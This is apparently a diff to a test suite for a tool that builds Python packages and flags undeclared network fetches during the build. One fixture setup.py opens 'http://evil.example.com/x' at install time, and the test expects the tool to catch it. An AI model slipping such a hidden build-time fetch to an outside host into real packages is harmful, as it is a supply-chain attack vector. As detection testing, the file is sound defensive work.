@@ -129,29 +129,49 @@ test(
   'E3 an undeclared fetch while it is built: the release is unbuildable, and its log says what was asked for',
   NEEDS,
   async () => {
-    const setup = [
-      'import urllib.request',
-      'from setuptools import setup',
-      'try:',
-      '    urllib.request.urlopen("http://evil.example.com/payload")',
-      'except OSError:',
-      '    pass',
-      'setup(name="sample-fetching", version="1.2.0", py_modules=["sample_fetching"])',
-    ].join('\n')
-    const files = [
-      { path: 'setup.py', content: `${setup}\n` },
-      { path: 'sample_fetching.py', content: '' },
-    ]
-    git.publish('somebody/sample-fetching', files, { tag: '1.2.0' })
-    index.publish({
-      name: 'sample-fetching',
-      version: '1.2.0',
-      uploadTime: new Date(SAMPLE_TIMES.released * 1000).toISOString(),
-      urls: ['Source, https://git.example.com/somebody/sample-fetching'],
-    })
-    const [row] = await build(['sample-fetching'], { folder: join(folder, 'three') }, ['env'])
+    publishLegacy(
+      'sample-fetching',
+      [
+        'import urllib.request',
+        'try:',
+        '    urllib.request.urlopen("http://evil.example.com/x")',
+        'except OSError:',
+        '    pass',
+      ],
+      '',
+    )
+    // One that asks for more by the old way, and needs it.
+    publishLegacy(
+      'sample-asking',
+      ['import sys'],
+      ', setup_requires=["pluggy"], description=__import__("pluggy").__name__ if "bdist_wheel" in sys.argv else ""',
+    )
+    const [row, asking] = await build(['sample-fetching', 'sample-asking'], { folder: join(folder, 'three') }, ['env'])
     assert.ok(row?.result.outcome === 'unbuildable', JSON.stringify(row?.result))
     assert.match(row.result.reason, /asked the network for something undeclared/)
     assert.match(row.log, /evil\.example\.com/)
+    assert.ok(asking?.result.outcome === 'built', `${JSON.stringify(asking?.result)}\n${asking?.log}`)
+    assert.match(asking.log, /Successfully installed pluggy-1\.7\.0 setuptools-80\.9\.0/)
   },
 )
+
+/** A project with nothing but a setup.py. */
+function publishLegacy(name: string, lines: readonly string[], more: string): void {
+  const module = name.replaceAll('-', '_')
+  const setup = [
+    ...lines,
+    'from setuptools import setup',
+    `setup(name="${name}", version="1.2.0", py_modules=["${module}"]${more})`,
+  ]
+  const files = [
+    { path: 'setup.py', content: `${setup.join('\n')}\n` },
+    { path: `${module}.py`, content: '' },
+  ]
+  git.publish(`somebody/${name}`, files, { tag: '1.2.0' })
+  index.publish({
+    name,
+    version: '1.2.0',
+    uploadTime: new Date(SAMPLE_TIMES.released * 1000).toISOString(),
+    urls: [`Source, https://git.example.com/somebody/${name}`],
+  })
+}
